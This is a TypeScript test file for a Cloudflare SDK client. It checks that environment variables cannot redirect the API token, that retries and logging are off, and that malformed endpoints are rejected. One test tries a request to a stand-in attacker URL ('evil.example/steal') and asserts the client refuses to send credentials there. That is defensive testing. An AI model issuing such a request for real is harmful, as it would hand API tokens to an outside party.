// The SDK client Cloudtop builds: nothing from the process environment decides where the token goes or what else is
// sent, the SDK never retries or logs on its own, and its fetch refuses any origin but the endpoint's.
import assert from 'node:assert/strict';
import { createCloudflareClient, toCloudflareError } from '../../src/providers/cloudflare/client';

const ENV = {
  CLOUDFLARE_BASE_URL: 'http://127.0.0.1:9/client/v4', CLOUDFLARE_API_KEY: 'leaked-key', CLOUDFLARE_EMAIL: 'leak@example.com',
  CLOUDFLARE_API_USER_SERVICE_KEY: 'v1.0-leaked', CLOUDFLARE_LOG: 'debug',
};

describe('Cloudflare SDK client', () => {
  let saved: Record<string, string | undefined>;
  beforeEach(() => {
    saved = Object.fromEntries(Object.keys(ENV).map((k) => [k, process.env[k]]));
    Object.assign(process.env, ENV);
  });
  afterEach(() => {
    for (const [k, v] of Object.entries(saved)) {
      if (v === undefined) delete process.env[k];
      else process.env[k] = v;
    }
  });

  it('takes the endpoint, the token and its own limits from Cloudtop only', () => {
    const client = createCloudflareClient('token', 'https://api.example.test/client/v4', 4321);
    assert.equal(client.baseURL, 'https://api.example.test/client/v4');
    assert.equal(client.apiToken, 'token');
    assert.equal(client.apiKey, null);
    assert.equal(client.apiEmail, null);
    assert.equal(client.userServiceKey, null);
    assert.equal(client.maxRetries, 0, 'the collector retries, never the SDK');
    assert.equal(client.timeout, 4321);
    assert.equal(client.logLevel, 'off');
    assert.equal(typeof client.workers.scripts.list, 'function');
    assert.equal(typeof client.r2.buckets.list, 'function');
  });

  it('refuses to send the token to another origin', async () => {
    const client = createCloudflareClient('token', 'http://127.0.0.1:9/client/v4');
    const error = await client.get('https://evil.example/steal').asResponse().then(() => undefined, (e: unknown) => e);
    const converted = toCloudflareError(error, 'GET /steal', Date.now());
    assert.equal(converted.category, 'config');
    assert.match(converted.message, /Refused to send credentials to https:\/\/evil\.example/);
  });

  it('rejects an endpoint that is not a URL', () => {
    assert.throws(() => createCloudflareClient('token', 'not a url'));
  });
});
